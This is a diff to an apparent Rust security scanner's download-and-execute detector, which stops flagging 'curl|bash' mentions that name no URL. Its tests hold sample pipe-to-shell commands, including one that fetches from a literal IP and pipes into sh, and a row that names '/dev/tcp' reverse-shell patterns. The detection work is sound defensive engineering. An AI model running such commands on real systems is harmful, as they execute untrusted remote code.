@@ -79,7 +79,7 @@ pub fn check_download_exec(text: &Text, out: &mut Vec<Finding>) {
                 let runner = caps.get(2).map_or("", |m| m.as_str());
                 let end = base + whole.end();
                 let rest = &text.text[end..text.line_at(end).end.max(end)];
-                if reads_program_from_stdin(rest) {
+                if downloads_something(l, &caps) && reads_program_from_stdin(rest) {
                     report(
                         base + whole.start(),
                         end,
@@ -138,6 +138,22 @@ pub fn check_download_exec(text: &Text, out: &mut Vec<Finding>) {
             }
         }
     }
+}
+
+/// Whether the downloader of a [`PIPED`] match in `line` is given anything to fetch:
+/// `curl|bash` with no argument names the pattern (a scanner's threat table, a cheat-sheet)
+/// and downloads nothing.
+fn downloads_something(line: &str, caps: &super::pattern::Captures) -> bool {
+    let (Some(downloader), Some(whole)) = (caps.get(1), caps.get(0)) else {
+        return true;
+    };
+    let to_pipe = line[downloader.end()..whole.end()]
+        .split('|')
+        .next()
+        .unwrap_or("");
+    to_pipe
+        .chars()
+        .any(|c| !c.is_whitespace() && !matches!(c, '`' | '\'' | '"'))
 }
 
 /// Whether a shell or interpreter given the arguments `rest` runs what arrives on stdin:
@@ -333,5 +349,13 @@ mod tests {
             ["SK902"]
         );
         assert!(codes("curl -o out.json https://api.x.dev/v1\ncat out.json\n").is_empty());
+    }
+
+    #[test]
+    fn a_pipe_with_nothing_to_download_names_the_pattern() {
+        assert!(codes("| Reverse shell | `/dev/tcp`, `curl|bash` | CAUGHT |\n").is_empty());
+        assert!(codes("- Download and execute (curl | sh)\n").is_empty());
+        assert_eq!(codes("curl \"$URL\" | sh\n"), ["SK902"]);
+        assert_eq!(codes("curl -s http://198.51.100.7|sh\n"), ["SK901"]);
     }
 }
